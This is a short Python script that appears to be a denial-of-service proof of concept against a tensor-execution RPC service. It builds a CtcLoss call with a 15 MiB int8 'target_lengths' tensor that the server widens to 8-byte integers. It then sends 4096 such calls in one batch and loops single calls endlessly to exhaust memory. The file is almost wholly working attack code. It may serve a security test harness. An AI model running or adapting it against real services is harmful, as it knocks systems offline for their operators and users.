"""Attributes that come as tensors: 15 Mi bytes that become 15 Mi numbers of eight, one by one, for every call of a
batch that names them.

Cost: 15 MiB and 200 KiB. Found: 4096 lists of 120 MiB, made one after the other.
"""

import wire
from attack import Attack, Target, run

COUNT = 15 << 20
LIST = wire.tensor("target_lengths", wire.INT8, [COUNT], raw=0)
LOSS = wire.call(
    "CtcLoss",
    [wire.tensor("log_probs", wire.FLOAT32, [1, 1, 1], raw=1), wire.tensor("targets", wire.INT64, [1, 0], raw=2), LIST],
    input_lengths=[1],
)
RAW = [bytes(COUNT), wire.floats(0.0), b""]


def batches(target: Target) -> None:
    target.connect().unary("ExecuteBatch", wire.batch([LOSS] * 4096, RAW), seconds=target.seconds)


def calls(target: Target) -> None:
    connection = target.connect(1)
    while True:
        connection.unary("Execute", wire.execute(LOSS, RAW), seconds=5)


if __name__ == "__main__":
    run(Attack([batches, calls], rss_mib=700))
